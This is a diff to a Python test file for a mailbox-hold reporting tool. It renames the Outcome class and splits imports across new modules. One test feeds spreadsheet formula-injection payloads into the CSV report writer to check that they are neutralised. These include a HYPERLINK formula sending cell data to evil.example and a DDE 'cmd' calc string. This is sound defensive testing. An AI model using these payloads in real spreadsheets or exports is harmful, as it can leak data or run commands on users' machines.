@@ -8,8 +8,9 @@ from pathlib import Path
 import pytest
 
 from hybridkit.errors import InputError
-from hybridkit.hold._files import read_mailbox_file, write_report
-from hybridkit.hold._model import Outcome, OutcomeStatus
+from hybridkit.hold._read import read_mailbox_file
+from hybridkit.hold._render import write_report
+from hybridkit.hold._model import HoldOutcome, OutcomeStatus
 
 
 def test_export_csv_with_type_line_and_bom(tmp_path: Path) -> None:
@@ -44,7 +45,7 @@ def test_unusable_files_are_input_errors(tmp_path: Path) -> None:
 
 
 def test_report_csv_round_trips(tmp_path: Path) -> None:
-    rows = [Outcome("a@x", "online", OutcomeStatus.FAILED, "a@x", "UserMailbox", False, "", "", "Ex1|boom, \"q\"")]
+    rows = [HoldOutcome("a@x", "online", OutcomeStatus.FAILED, "a@x", "UserMailbox", False, "", "", "Ex1|boom, \"q\"")]
     write_report(tmp_path / "r.csv", rows)
     with (tmp_path / "r.csv").open(encoding="utf-8-sig") as fh:
         got = list(csv.DictReader(fh))
@@ -54,7 +55,7 @@ def test_report_csv_round_trips(tmp_path: Path) -> None:
 @pytest.mark.parametrize("payload", ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0",
                                      "@SUM(1+1)", "-2+3", "\t=1+1", "\r=1+1", "  =1+1", "\0=1"])
 def test_report_csv_neutralises_formulas(tmp_path: Path, payload: str) -> None:
-    rows = [Outcome(payload, "onprem", OutcomeStatus.FAILED, "a@x", "UserMailbox", False, "", payload, payload)]
+    rows = [HoldOutcome(payload, "onprem", OutcomeStatus.FAILED, "a@x", "UserMailbox", False, "", payload, payload)]
     write_report(tmp_path / "r.csv", rows)
     raw = (tmp_path / "r.csv").read_bytes().decode("utf-8-sig")
     with (tmp_path / "r.csv").open(encoding="utf-8-sig", newline="") as fh:
@@ -65,7 +66,7 @@ def test_report_csv_neutralises_formulas(tmp_path: Path, payload: str) -> None:
 
 
 def test_report_csv_leaves_plain_text_alone(tmp_path: Path) -> None:
-    rows = [Outcome("ann@contoso.com", "online", OutcomeStatus.ENABLED, "ann@contoso.com", "UserMailbox", True,
+    rows = [HoldOutcome("ann@contoso.com", "online", OutcomeStatus.ENABLED, "ann@contoso.com", "UserMailbox", True,
                     "2555", "Legal - case 7", "a=b")]
     write_report(tmp_path / "r.csv", rows)
     with (tmp_path / "r.csv").open(encoding="utf-8-sig", newline="") as fh:
@@ -77,7 +78,7 @@ def test_report_gives_the_hold_date_in_utc(tmp_path: Path) -> None:
     import datetime as dt
 
     when = dt.datetime(2026, 12, 5, 10, 30, tzinfo=dt.timezone(dt.timedelta(hours=1)))
-    rows = [Outcome("a@x", "onprem", OutcomeStatus.ENABLED, "a@x", "UserMailbox", True, "2555", "Legal", "",
+    rows = [HoldOutcome("a@x", "onprem", OutcomeStatus.ENABLED, "a@x", "UserMailbox", True, "2555", "Legal", "",
                     True, when)]
     write_report(tmp_path / "r.csv", rows)
     with (tmp_path / "r.csv").open(encoding="utf-8-sig", newline="") as fh:
